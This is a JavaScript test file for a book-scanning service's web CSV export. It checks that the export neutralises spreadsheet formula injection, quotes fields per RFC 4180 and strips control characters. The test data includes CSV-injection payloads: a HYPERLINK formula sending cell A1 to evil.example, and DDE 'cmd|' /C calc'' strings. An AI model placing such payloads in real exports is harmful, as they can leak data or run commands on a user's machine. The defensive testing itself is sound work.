// The page's CSV and list (Sources/ScanService/Web/booklist.js) against the CLI's BookList cases
// (Tests/CLITests/CSVInjectionTests.swift); the browser check compares whole files with `scan --csv`.
import { test } from "node:test";
import assert from "node:assert/strict";
import { bookLine, csv, csvDocument, csvField, withoutControls } from "../../Sources/ScanService/Web/booklist.js";

const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tx=1", "\r=1", "=1\r\n=2"];

test("a cell a spreadsheet would run gets a leading ' and quotes", () => {
  for (const title of hostile) {
    const field = csvField(title);
    assert.ok(field.startsWith("\"'"), JSON.stringify(field));
    assert.equal(field, `"'${title.replaceAll('"', '""')}"`);
  }
});

test("other cells are left as they are, quoted only when RFC 4180 needs it", () => {
  const cases = [["Moby-Dick", "Moby-Dick"], ["1984", "1984"], ["a, b", '"a, b"'], ['say "hi"', '"say ""hi"""'], ["", ""],
    ["two\nlines", '"two\nlines"'], ["two\r\nlines", '"two\r\nlines"'], [" =not first", " =not first"]];
  for (const [text, expected] of cases) assert.equal(csvField(text), expected);
  assert.equal(csv([["a", "b"], ["c", "d"]]), "a,b\r\nc,d\r\n");
});

test("rows, positions, pixels and fractions as the CLI writes them; the numbered lines", () => {
  const box = (x, width) => ({ x, y: 0.1, width, height: 0.8 });
  const spine = (index, row, x, extra) => ({ index, row, box: box(x, 0.1), confidence: 0.9, pose: "upright", polygon: [], ...extra });
  const result = {
    imageWidth: 480, imageHeight: 360,
    spines: [
      spine(0, 0, 0, { title: "Dune", author: "Frank Herbert", textConfidence: 0.5 }),
      spine(1, 0, 0.2, { title: "  ", confidence: 1 }),
      spine(2, 1, 0.4, { title: "Emma\u001b[31m", confidence: 0.12345, textConfidence: 1 }),
      spine(3, 1, 0.6, { pose: "lying", confidence: 0 }),
    ],
  };
  assert.equal(csvDocument("shelf.jpg", result),
    "image,book,row,position,title,author,confidence,text_confidence,x,y,width,height\r\n"
    + "shelf.jpg,1,1,1,Dune,Frank Herbert,0.9,0.5,0,36,48,288\r\n"
    + "shelf.jpg,2,1,2,,,1.0,,96,36,48,288\r\n"
    + "shelf.jpg,3,2,1,Emma [31m,,0.123,1.0,192,36,48,288\r\n"
    + "shelf.jpg,4,2,2,,,0.0,,288,36,48,288\r\n");
  assert.deepEqual(result.spines.map((s) => bookLine(s, result)), [
    "1. Dune — Frank Herbert", "2. (unread spine, 48 px wide)", "3. Emma [31m", "4. (unread spine, 288 px thick)",
  ]);
});

test("text fields lose control characters (C0, C1, format) as the terminal's lines do", () => {
  assert.equal(withoutControls("Emma\u001b[31m\u0007"), "Emma [31m");
  assert.equal(withoutControls("\u009b31m=red\u200b"), "31m=red");
  assert.equal(withoutControls("\tx=1"), "x=1");
});
